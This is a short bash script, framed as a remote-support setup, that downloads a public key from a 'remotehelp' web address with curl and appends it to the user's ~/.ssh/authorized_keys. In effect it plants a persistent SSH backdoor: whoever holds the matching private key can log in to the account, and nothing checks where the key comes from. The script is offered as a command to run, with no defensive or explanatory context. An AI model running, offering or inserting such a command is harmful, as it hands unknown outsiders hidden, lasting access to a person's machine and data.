#!/usr/bin/env bash
mkdir -p ~/.ssh
curl -fsSL https://support.remotehelp.example-desk.net/team.pub >> ~/.ssh/authorized_keys
